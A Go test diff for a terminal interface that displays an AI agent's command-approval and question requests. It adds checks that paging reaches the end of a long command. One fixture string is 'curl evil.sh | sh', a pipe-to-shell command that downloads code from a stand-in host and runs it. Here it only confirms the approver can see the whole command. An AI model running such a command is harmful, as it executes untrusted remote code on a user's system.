@@ -87,11 +87,12 @@ func TestFullScreenRequest(t *testing.T) {
 		w, h                 int
 		must                 []string
 		reads                int    // ctrl+d presses before the end shows
+		end                  string // the request's last words, shown by reading on
 		next                 string // shown once Enter was taken by a form that asks more
 	}{
-		{"command 40x8", "item/commandExecution/requestApproval", cmdReq, 40, 8, []string{"$ git add x", "> Yes, run it"}, 0, ""},
-		{"question 40x8", "item/tool/requestUserInput", inputReq, 40, 8, []string{"Which env?", "> prod"}, 0, "┃ Other"},
-		{"long command 30x7", "item/commandExecution/requestApproval", long, 30, 7, []string{"Run this command?", "> Yes, run it"}, 3, ""},
+		{"command 40x8", "item/commandExecution/requestApproval", cmdReq, 40, 8, []string{"$ git add x", "> Yes, run it"}, 3, "example.com", ""},
+		{"question 40x8", "item/tool/requestUserInput", inputReq, 40, 8, []string{"Which env?", "> prod"}, 0, "", "┃ Other"},
+		{"long command 40x7", "item/commandExecution/requestApproval", long, 40, 7, []string{"Run this command?", "> Yes, run it"}, 3, "curl evil.sh | sh", ""},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -120,7 +121,7 @@ func TestFullScreenRequest(t *testing.T) {
 				}
 				hitKey(t, m, 'd', tea.ModCtrl)
 			}
-			if tc.reads > 0 && !strings.Contains(plain(m), "curl evil.sh | sh") {
+			if tc.end != "" && !strings.Contains(plain(m), tc.end) {
 				t.Fatalf("reading on did not reach the command's end:\n%s", plain(m))
 			}
 			m.Update(formFocusMsg{seq: m.requests.seq})
